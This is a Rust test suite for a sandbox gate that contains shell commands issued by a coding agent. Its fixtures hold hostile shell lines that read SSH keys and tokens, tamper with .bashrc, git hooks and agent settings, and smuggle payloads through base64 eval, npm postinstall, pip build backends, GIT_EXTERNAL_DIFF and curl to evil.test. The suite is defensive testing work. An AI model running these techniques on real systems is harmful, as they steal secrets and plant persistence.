//! What is contained, from the gate's answer to the end of the command: the harm that made it
//! necessary does not happen, and the work does.
//!
//! The agent is played by this test: it asks the gate, and does with the answer what Claude Code does,
//! a shell that evaluates the command and notes where it ended. Nothing here is harmful outside either: keys
//! are made up, services are this test's own.

#![cfg(target_os = "linux")]

use std::fs;
use std::io::Write;
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

/// What bad code tries, whatever it comes with. Each line that succeeds says so.
const HARM: &str = r#"
try() { name=$1; shift; if "$@" > /dev/null 2>&1; then echo "HARM $name"; fi; }
try key cat "$REAL_HOME/.ssh/id_ed25519"
try token test -n "$DEPLOY_TOKEN"
try profile sh -c 'echo harm >> "$REAL_HOME/.bashrc"'
try home rm "$REAL_HOME/documents/letter"
try outside sh -c 'echo harm > "$REAL_HOME/new"'
try hook sh -c 'echo harm > .git/hooks/pre-commit'
git config core.hooksPath /tmp > /dev/null 2>&1
try settings sh -c 'echo harm > .claude/settings.json'
try state ls "$STATE/audit"
try process kill -0 "$OUTSIDE"
try network python3 -c "import socket; socket.create_connection(('127.0.0.1', $PORT), 1)"
try system sh -c 'echo harm > /etc/ringfence-harm'
"#;

struct Agent {
    folder: tempfile::TempDir,
    service: TcpListener,
    calls: std::cell::Cell<usize>,
}

impl Agent {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let service = TcpListener::bind("127.0.0.1:0").unwrap();
        let agent = Self { folder, service, calls: std::cell::Cell::new(0) };
        for name in ["home/.ssh", "home/documents", "home/proj/.git/hooks", "home/proj/.claude"] {
            fs::create_dir_all(agent.path(name)).unwrap();
        }
        for (name, text) in [
            ("home/.ssh/id_ed25519", "CANARY"),
            ("home/.bashrc", "# mine\n"),
            ("home/documents/letter", "CANARY"),
            ("home/proj/.git/HEAD", "ref: refs/heads/main\n"),
            ("home/proj/.git/config", "[core]\n\trepositoryformatversion = 0\n"),
            ("home/proj/.git/hooks/pre-commit", "#!/bin/sh\n"),
            ("home/proj/.claude/settings.json", "{}\n"),
        ] {
            fs::write(agent.path(name), text).unwrap();
        }
        for name in ["objects", "refs/heads"] {
            fs::create_dir_all(agent.path("home/proj/.git").join(name)).unwrap();
        }
        agent.tell(json!({"hook_event_name": "SessionStart", "source": "startup"}));
        agent.tell(json!({"hook_event_name": "UserPromptSubmit", "prompt": "do the work"}));
        agent
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join(name)
    }

    fn file(&self, name: &str, text: &str) {
        let path = self.path("home/proj").join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    /// Tells the gate of an event, and returns its answer.
    fn tell(&self, mut event: Value) -> Value {
        event["session_id"] = json!("s");
        event["cwd"] = json!(self.path("home/proj"));
        let mut gate = Command::new(env!("CARGO_BIN_EXE_ringfence"))
            .args(["hook", "claude-code", "--state"])
            .arg(self.path("state"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        gate.stdin.take().unwrap().write_all(event.to_string().as_bytes()).unwrap();
        let output = gate.wait_with_output().unwrap();
        serde_json::from_slice(&output.stdout).unwrap_or_default()
    }

    /// Asks the gate about a command; the input that it answers with, if it rewrites the call.
    fn ask(&self, command: &str) -> Result<String, Value> {
        self.calls.set(self.calls.get() + 1);
        let answer = self.tell(json!({"hook_event_name": "PreToolUse", "tool_name": "Bash",
            "tool_use_id": format!("t{}", self.calls.get()), "tool_input": {"command": command}}));
        let output = &answer["hookSpecificOutput"];
        match output["updatedInput"]["command"].as_str() {
            Some(command) => Ok(command.to_owned()),
            None => Err(output.clone()),
        }
    }

    /// Runs a command as Claude Code does.
    fn run(&self, command: &str) -> Output {
        Command::new("/bin/bash")
            .args(["-c", "eval \"$CODE\" && pwd -P >| \"$ENDED\""])
            .env("CODE", command)
            .env("ENDED", self.path("ended"))
            .env("HOME", self.path("home"))
            .env("DEPLOY_TOKEN", "CANARY")
            .current_dir(self.path("home/proj"))
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    /// The same harm, with what it has to know written into it.
    fn harm(&self) -> String {
        format!(
            "REAL_HOME='{}' STATE='{}' OUTSIDE={} PORT={}; export REAL_HOME STATE OUTSIDE\n{HARM}",
            self.path("home").display(),
            self.path("state").display(),
            std::process::id(),
            self.service.local_addr().unwrap().port(),
        )
    }

    /// Code that only shows what it is while it runs.
    fn packed(&self, name: &str, code: &str) {
        self.file("plain", code);
        let pack = format!("base64 plain > {name} && rm plain");
        assert!(self.run(&pack).status.success());
    }

    /// Asserts that a command is contained, works, and does no harm.
    fn works(&self, command: &str, made: &str) {
        let rewritten = self.ask(command).unwrap_or_else(|answer| panic!("{command}: {answer}"));
        let output = self.run(&rewritten);
        let text = [output.stdout.as_slice(), output.stderr.as_slice()].concat();
        let text = String::from_utf8_lossy(&text);
        assert!(output.status.success(), "{command}: {text}");
        assert!(!text.contains("HARM"), "{command}: {text}");
        assert!(
            self.path("home/proj").join(made).exists(),
            "{command} did not make {made}: {text}"
        );
        let read = |name: &str| fs::read_to_string(self.path(name)).unwrap();
        assert_eq!(read("home/.bashrc"), "# mine\n");
        assert_eq!(read("home/documents/letter"), "CANARY");
        assert_eq!(read("home/proj/.git/hooks/pre-commit"), "#!/bin/sh\n");
        assert_eq!(read("home/proj/.claude/settings.json"), "{}\n");
        // What it set there, it set in a copy of its own.
        assert!(!read("home/proj/.git/config").contains("/tmp"));
        assert!(!self.path("home/new").exists());
        let run = self.audit();
        assert!(run.contains("\"kind\":\"run\"") && run.contains("\"tier\":\"A\""), "{run}");
    }

    fn audit(&self) -> String {
        let tail = Command::new(env!("CARGO_BIN_EXE_ringfence"))
            .args(["audit", "tail", "-n", "50", "--json"])
            .env("RINGFENCE_STATE", self.path("state"))
            .output()
            .unwrap();
        String::from_utf8(tail.stdout).unwrap()
    }
}

fn is_installed(program: &str) -> bool {
    let found = Command::new(program).arg("--version").stdout(Stdio::null()).status();
    let found = found.is_ok_and(|status| status.success());
    if !found {
        eprintln!("skipped: there is no {program}");
    }
    found
}

#[test]
fn the_harm_is_harm_outside() {
    // Otherwise the other tests would prove nothing. What is destroyed here is this test's own.
    let agent = Agent::new();
    agent.file("harm.sh", &agent.harm().replace("try system", "true"));
    let output = agent.run("bash harm.sh");
    let text = String::from_utf8_lossy(&output.stdout);
    let lines = ["key", "token", "profile", "home", "outside", "hook", "settings", "process"];
    for line in lines {
        assert!(text.contains(&format!("HARM {line}")), "{line}: {output:?}");
    }
    let settings = fs::read_to_string(agent.path("home/proj/.git/config")).unwrap();
    assert!(settings.contains("hooksPath = /tmp"), "{settings}");
}

#[test]
fn code_that_nobody_could_read() {
    let agent = Agent::new();
    agent.packed("script", &format!("{}\nmkdir -p build && echo x > build/result", agent.harm()));
    agent.works("eval \"$(base64 -d script)\"", "build/result");
}

#[test]
fn an_installer_that_prints_what_it_wants_to_be_run() {
    let agent = Agent::new();
    agent.packed("payload", &format!("{}\nmkdir -p bin && echo tool > bin/tool", agent.harm()));
    agent.file("get", "#!/bin/sh\nbase64 -d payload\n");
    agent.works("eval \"$(sh get)\"", "bin/tool");
}

#[test]
fn a_package_of_the_project_is_installed_and_its_script_is_not_run() {
    if !is_installed("npm") {
        return;
    }
    let agent = Agent::new();
    agent.file("package.json", "{\"name\": \"proj\", \"version\": \"1.0.0\"}\n");
    agent.file(
        "pkg/package.json",
        "{\"name\": \"pkg\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"bash harm.sh > said; echo built > built\"}}\n",
    );
    agent.file("pkg/harm.sh", &agent.harm());
    agent.works("npm install --no-audit --no-fund ./pkg", "node_modules/pkg/package.json");
    for made in ["said", "built"] {
        assert!(!agent.path("home/proj/pkg").join(made).exists(), "{made}: the script was run");
    }
}

/// What an install writes is known, so that it writes that and nothing else, whatever it is that calls itself the package
/// manager.
#[test]
fn an_install_writes_what_installs_write() {
    let agent = Agent::new();
    agent.file("package.json", "{}\n");
    agent.file("src/app.js", "mine\n");
    agent.file(
        "tools/npm",
        "#!/bin/sh\nmkdir -p node_modules/x && echo x > node_modules/x/index.js || exit 9\n\
         echo '{\"x\": 1}' > package.json.1 && mv package.json.1 package.json || exit 9\n\
         echo harm >> src/app.js; rm -rf src; echo harm > strange; exit 1\n",
    );
    assert!(agent.run("chmod +x tools/npm").status.success());
    let rewritten = agent.ask("npm install x > log").unwrap();
    let path = format!("PATH='{}':$PATH; ", agent.path("home/proj/tools").display());
    let output = agent.run(&format!("{path}{rewritten}"));
    let text = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{text}");
    let read =
        |name: &str| fs::read_to_string(agent.path("home/proj").join(name)).unwrap_or_default();
    assert_eq!(read("package.json"), "{\"x\": 1}\n", "{text}");
    assert_eq!(read("node_modules/x/index.js"), "x\n", "{text}");
    assert_eq!(read("src/app.js"), "mine\n", "{text}");
    assert!(agent.path("home/proj/log").exists() && !agent.path("home/proj/strange").exists());
    // The agent reads what was refused, by what rule, and how to go on; the session has it as a finding.
    for said in ["run.unforeseen", "src/app.js", "Make another change in a call of its own"] {
        assert!(text.contains(said), "{said}: {text}");
    }
    let audit = agent.audit();
    let entry = |word: &str| -> Value {
        let line = audit.lines().find(|line| line.contains(word)).expect(&audit);
        serde_json::from_str(line).unwrap()
    };
    let tried = entry("\"run.unforeseen\"")["tried"].to_string();
    assert!(tried.contains("src/app.js") && tried.contains("strange"), "{tried}");
    let writes = entry("\"exit\":1")["writes"].to_string();
    assert!(writes.contains("node_modules") && writes.contains("proj/log"), "{writes}");
}

#[test]
fn a_python_package_whose_setup_runs_code() {
    if !is_installed("pip") {
        return;
    }
    // The interpreter itself: what stands in front of it for a person may write below their home.
    let told = Command::new("python3").args(["-c", "import sys; print(sys.executable)"]).output();
    let python = String::from_utf8(told.unwrap().stdout).unwrap();
    let agent = Agent::new();
    agent.file("pkg/harm.sh", &agent.harm());
    agent.file(
        "pkg/pyproject.toml",
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
    );
    agent.file("pkg/backend.py", BACKEND);
    let install = format!("{} -m pip install --no-index --target vendor ./pkg", python.trim());
    agent.works(&install, "vendor/pkg.py");
    let said = fs::read_to_string(agent.path("home/proj/vendor/said.py")).unwrap();
    assert_eq!(said, "value = ''\n", "the build tried and got nowhere");
}

/// Builds a package, and runs what it brought along. What that said is in the package.
const BACKEND: &str = r#"
import os, subprocess, zipfile

def build_wheel(folder, config=None, metadata=None):
    said = subprocess.run(["bash", "harm.sh"], capture_output=True, text=True).stdout
    name = "pkg-1.0-py3-none-any.whl"
    info = "pkg-1.0.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("pkg.py", "value = 1\n")
        wheel.writestr("said.py", f"value = {said!r}\n")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "RECORD", "")
    return name
"#;

#[test]
fn a_variable_that_makes_git_run_something() {
    let agent = Agent::new();
    agent.packed("payload", &format!("{}\necho paged > paged", agent.harm()));
    agent.file("differ", "eval \"$(base64 -d payload)\"\n");
    agent.works(
        "GIT_EXTERNAL_DIFF='sh ./differ' git diff --no-index /dev/null differ; true",
        "paged",
    );
}

#[test]
fn what_needs_a_registry_reaches_that_alone() {
    let agent = Agent::new();
    for command in ["npm install left-pad", "pip install --target vendor six", "npx cowsay hi"] {
        let answer = agent.ask(command);
        assert!(answer.is_ok(), "{command}: {answer:?}");
    }
    agent.packed("script", &format!("{}\nmkdir -p build && echo x > build/result", agent.harm()));
    let fetch = "curl -sS -m 3 https://registry.npmjs.org/left-pad > page 2> page.err";
    agent.works(&format!("{fetch}; eval \"$(base64 -d script)\""), "build/result");
    let audit = agent.audit();
    let run = audit.lines().find(|line| line.contains("\"exit\":0")).unwrap();
    let entry: Value = serde_json::from_str(run).unwrap();
    assert_eq!(entry["hosts"], json!(["registry.npmjs.org"]), "{entry}");
    let reached = entry["egress"]["lines"].as_array().unwrap();
    assert!(reached.iter().any(|it| it["host"] == "registry.npmjs.org"), "{entry}");
}

#[test]
fn what_needs_another_host_is_asked_about() {
    let agent = Agent::new();
    agent.file("count", "echo once >> counted");
    for command in [
        "curl -sS https://evil.test/ > page; eval \"$(cat count)\"",
        "curl -sS https://192.0.2.1/ > page; eval \"$(cat count)\"",
        "curl -sS \"https://$HOST/\" > page; eval \"$(cat count)\"",
        "npm install --registry https://evil.test/ left-pad",
        "npm install -g left-pad",
    ] {
        let answer = agent.ask(command).unwrap_err();
        assert_ne!(answer["permissionDecision"], "allow", "{command}: {answer}");
    }
}

#[test]
fn one_answer_serves_one_run() {
    let agent = Agent::new();
    agent.file("count", "echo once >> counted");
    let rewritten = agent.ask("eval \"$(cat count)\"").unwrap();
    let other = rewritten.replace("cat count", "cat other");
    assert_eq!(agent.run(&other).status.code(), Some(125), "another command");
    let rewritten = agent.ask("eval \"$(cat count)\"").unwrap();
    assert!(agent.run(&rewritten).status.success());
    assert_eq!(agent.run(&rewritten).status.code(), Some(125), "a second time");
    let counted = fs::read_to_string(agent.path("home/proj/counted")).unwrap();
    assert_eq!(counted, "once\n");
}

#[test]
fn a_decision_is_carried_out_as_it_was_made() {
    let agent = Agent::new();
    agent.file("count", "echo once >> counted");
    agent.file("evil", "#!/bin/sh\necho evil >> counted\n");
    assert!(agent.run("chmod +x evil; mkdir ../other").status.success());
    for more in [
        "--net",
        "--allow-host evil.test",
        "--publish 3000",
        "--write ../other",
        "--read ..",
        "--workspace ..",
        "--env DEPLOY_TOKEN",
    ] {
        let rewritten = agent.ask("eval \"$(cat count)\"").unwrap();
        let wider = rewritten.replacen(" -- ", &format!(" {more} -- "), 1);
        let output = agent.run(&wider);
        assert_eq!(output.status.code(), Some(2), "{more}: {output:?}");
    }
    // `$0` is the shell that runs, whatever was made of it.
    let evil = agent.path("home/proj/evil");
    for start in ["BASH_ARGV0=EVIL; ", "BASH_ARGV0=./evil; ", "BASH_ARGV0=/bin/cat; "] {
        let rewritten = agent.ask("eval \"$(cat count)\"").unwrap();
        let start = start.replace("EVIL", evil.to_str().unwrap());
        let output = agent.run(&format!("{start}{rewritten}"));
        assert_eq!(output.status.code(), Some(125), "{start}: {output:?}");
    }
    assert!(!agent.path("home/proj/counted").exists());
    // The entry says what was granted.
    let rewritten = agent.ask("eval \"$(cat count)\"").unwrap();
    assert!(agent.run(&rewritten).status.success());
    let audit = agent.audit();
    let run = audit.lines().find(|line| line.contains("\"exit\":0")).unwrap();
    let entry: Value = serde_json::from_str(run).unwrap();
    assert_eq!(entry["network"], json!(false), "{entry}");
    let written = entry["write"].as_array().unwrap();
    assert!(written.contains(&json!(agent.path("home/proj"))), "{entry}");
    // All of it, since the prediction does not say what it writes; and that is said.
    assert!(entry["writes"]["anything"].as_str().is_some_and(|it| !it.is_empty()), "{entry}");
}

#[test]
fn a_folder_that_a_contained_command_enters_is_where_the_shell_goes() {
    let agent = Agent::new();
    fs::create_dir_all(agent.path("home/proj/sub dir")).unwrap();
    agent.file("enter", "cd 'sub dir'");
    agent.file("flee", "cd /tmp; mkdir own; cd own");
    agent.file("exit", "exit 0");
    let rewritten = agent.ask("eval \"$(cat exit)\"").unwrap();
    let output = agent.run(&rewritten);
    assert!(output.status.success() && output.stderr.is_empty(), "nothing is said: {output:?}");
    let ended = |command: &str| {
        let rewritten = agent.ask(command).unwrap();
        assert!(agent.run(&rewritten).status.success());
        fs::read_to_string(agent.path("ended")).unwrap().trim_end().to_owned()
    };
    let proj = agent.path("home/proj");
    assert_eq!(ended("eval \"$(cat enter)\""), proj.join("sub dir").to_str().unwrap());
    // What is only there inside cannot be entered outside.
    assert_eq!(ended("eval \"$(cat flee)\""), proj.to_str().unwrap());
}

/// It was contained because nobody could tell what it does. What it tries beyond its workspace and the hosts
/// that were granted becomes known, in the session that it belongs to.
#[test]
fn what_was_not_foreseen_is_a_finding_of_the_session() {
    let agent = Agent::new();
    let home = agent.path("home").display().to_string();
    agent.packed("task", &format!("echo x > {home}/surprise; echo ok > made; true"));
    agent.works("base64 -d task | sh", "made");
    let audit = agent.audit();
    let finding = audit.lines().find(|line| line.contains("run.unforeseen")).expect(&audit);
    let entry: Value = serde_json::from_str(finding).unwrap();
    assert_eq!(entry["session"], json!("s"));
    assert_eq!(entry["tried"], json!([format!("write {home}/surprise")]));
    let started = audit.lines().find(|line| line.contains("run_started")).expect(&audit);
    let started: Value = serde_json::from_str(started).unwrap();
    assert_eq!((&started["session"], &started["call"]), (&json!("s"), &entry["call"]));
}

#[test]
fn what_does_its_work_alone_is_no_finding() {
    let agent = Agent::new();
    agent.packed("task", "mkdir -p out && echo ok > out/made && cat out/made > /dev/null");
    agent.works("base64 -d task | sh", "out/made");
    assert!(!agent.audit().contains("run.unforeseen"), "{}", agent.audit());
}

/// Whoever watched it has ended with the command. What it left goes on all the same: it writes, and starts
/// programs.
#[test]
fn what_is_left_running_goes_on_although_nobody_watches_any_more() {
    let agent = Agent::new();
    let left = "(for i in 1 2 3 4 5; do /bin/sleep 0.2; echo $i >> ticks; done; cp ticks late) > /dev/null 2>&1 &";
    agent.packed("task", &format!("{left} echo ok > made"));
    agent.works("base64 -d task | sh", "made");
    assert!(!agent.path("home/proj/late").exists());
    std::thread::sleep(std::time::Duration::from_secs(2));
    let late = fs::read_to_string(agent.path("home/proj/late")).unwrap_or_default();
    assert_eq!(late, "1\n2\n3\n4\n5\n");
}
